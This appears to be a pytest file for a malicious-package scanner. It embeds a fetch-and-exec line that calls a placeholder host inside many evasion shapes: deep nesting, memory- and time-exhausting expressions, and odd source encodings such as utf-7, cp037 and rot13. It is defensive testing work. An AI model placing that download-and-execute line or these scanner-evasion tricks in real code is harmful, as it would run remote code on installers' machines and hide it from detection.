"""Source code that is written against its readers: it is read all the same, within the worker's limits."""

from __future__ import annotations

import ast
import codecs

import pytest

from pratique.facts.python.source.recovery.recover import recover
from pratique.verdict import Report, Verdict
from tests.hostile.workers import inspected
from tests.unpack.archives import zipped

_CHAIN = "exec(requests.get('http://a.example.invalid/x').text)\n"
"""A proven chain: however it is surrounded, it must be seen."""


def _nested(opening: str, depth: int, closing: str) -> str:
    return opening * depth + _CHAIN.strip() + closing * depth + "\n"


def _blocks(depth: int) -> str:
    return "".join(" " * i + "if 1:\n" for i in range(depth)) + " " * depth + _CHAIN


_SHAPES = {
    "brackets beyond this Python's parser": _nested("(", 600, ")"),
    "lists beyond any stack": _nested("[", 8_000, "]"),
    "operators beyond any stack": _nested("not ", 5_000, ""),
    "calls within calls": _nested("f(", 90, ")"),
    "blocks within blocks": _blocks(95),
    "more blocks than any parser bears": _blocks(2_000),
    "a long chain of alternatives": "if x == 0: pass\n"
    + "".join(f"elif x == {i}: pass\n" for i in range(1_000))
    + f"else:\n {_CHAIN}",
    "a long chain of attributes": "x" + ".a" * 5_000 + "\n" + _CHAIN,
    "a long chain of assignments": "x" + " = x" * 5_000 + "\n" + _CHAIN,
    "many decorators": "@f\n" * 2_000 + "def g(): pass\n" + _CHAIN,
    "many managers": "with " + "a, " * 3_000 + "b:\n " + _CHAIN,
    "many classes, each of the one before": "".join(f"class A{i}(A{i - 1}): pass\n" for i in range(3_000)) + _CHAIN,
    "a gigantic number": f"x = {'9' * 1_000_000}\n" + _CHAIN,
    "a gigantic string": f"x = {'a' * 7_000_000!r}\n" + _CHAIN,
    "a hundred thousand strings side by side": "x = " + "'a' " * 100_000 + "\n" + _CHAIN,
    "a sum of thousands": "x = " + " + ".join(["'a'"] * 2_000) + "\n" + _CHAIN,
    "a power tower": "x = 9 ** 9 ** 9 ** 9\ny = 10 ** 5_000_000\nz = 1 << 10 ** 9\n" + _CHAIN,
    "a product beyond memory": "x = 'x' * 10 ** 9\ny = [0] * 10 ** 9\nz = bytes(10 ** 9)\n" + _CHAIN,
    "numbers to text and back": "x = int('9' * 4_000_000)\ny = str(1 << 4_000_000)\n" + _CHAIN,
    "padding beyond memory": "x = '%1000000000d' % 1\ny = f'{1:1000000000}'\nz = 'a'.zfill(10 ** 9)\n"
    "w = '\\t'.expandtabs(10 ** 9)\nv = '{:>1000000000}'.format(1)\n" + _CHAIN,
    "joining beyond memory": "x = 'a' * 60_000\ny = x.join(['b'] * 60_000)\nz = x.replace('a', x)\n" + _CHAIN,
    "comprehensions within comprehensions": "r = range(1_000)\nx = [a + b + c for a in r for b in r for c in r]\n"
    + _CHAIN,
    "text that doubles": "x = 'a'\n" + "x = x + x\n" * 60 + _CHAIN,
    "lists that double": "x = [1]\n" + "x = x + x\n" * 30 + _CHAIN,
    "lists that hold themselves": "x = []\n" + "x.append(x)\n" * 1_000 + "exec(str(x))\n" + _CHAIN,
    "tables within tables": "x = {}\n" + "x = {'a': x, 'b': x}\n" * 300 + "exec(str(x))\n" + _CHAIN,
    "functions that call themselves": "def f(x): return f(f(x)) + f(x)\nf('a')\n" + _CHAIN,
    "functions that call the next twice": "".join(
        f"def f{i}(x): return f{i + 1}(x) + f{i + 1}(x)\n" for i in range(200)
    )
    + "def f200(x): return x\nf0('a')\n"
    + _CHAIN,
    "a NUL": "\0" + _CHAIN,
    "carriage returns": "x = 1\r" + _CHAIN,
    "a form feed": "\f" + _CHAIN,
    "unpaired surrogates": "x = '\udcff\udcfe'\n" + _CHAIN,
}


_ENCODINGS = ("utf-8-sig", "utf-16", "utf-16-le", "utf-32", "utf-7", "cp037", "rot13")


def _encoded(encoding: str) -> bytes:
    source = "import requests\n" + _CHAIN
    if encoding == "rot13":
        return b"# coding: rot13\n" + codecs.encode(source, "rot13").encode()
    cookie = f"# coding: {encoding}\n".encode() if encoding in {"utf-7", "cp037"} else b""
    return cookie + source.encode(encoding)


@pytest.fixture(scope="module")
def reports(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Report]:
    """The reports on all shapes and encodings, by one worker after the other."""
    sources = {name: ("import requests\n" + code).encode("utf-8", "surrogateescape") for name, code in _SHAPES.items()}
    sources |= {encoding: _encoded(encoding) for encoding in _ENCODINGS}
    archives = {name: zipped({"example_pkg/__init__.py": source}) for name, source in sources.items()}
    return inspected(tmp_path_factory.mktemp("sources"), archives)


@pytest.mark.parametrize("shape", _SHAPES)
def test_a_chain_is_seen_whatever_surrounds_it(reports: dict[str, Report], shape: str) -> None:
    """No shape of the code around it crashes the reader, uses up its memory or time, or hides the chain."""
    report = reports[shape]
    assert (report.verdict, report.error) == (Verdict.MALICIOUS, "")


@pytest.mark.parametrize("encoding", _ENCODINGS)
def test_an_odd_encoding_hides_nothing(reports: dict[str, Report], encoding: str) -> None:
    """Code in an encoding that this Python, or none, would accept: it is seen, or the report says that it is odd."""
    report = reports[encoding]
    assert report.verdict is Verdict.MALICIOUS or any(f.rule.startswith("source-") for f in report.findings)
    assert report.error == ""


@pytest.mark.parametrize("unit", [" ", "\t", " \t"])
@pytest.mark.parametrize("depth", [300, 301, 511, 3_000])
def test_blocks_deeper_than_the_grammar_bears_are_moved_not_dropped(unit: str, depth: int) -> None:
    """Recovery of a broken file keeps what lies deeper than tree-sitter's grammar can go without ending the process."""
    text = "".join(unit * i + "if 1:\n" for i in range(depth)) + unit * depth + "exec(x)\nbad bad\n"
    recovered = recover(text)
    assert recovered.hit_depth
    assert "exec" in {node.id for node in ast.walk(recovered.tree) if isinstance(node, ast.Name)}
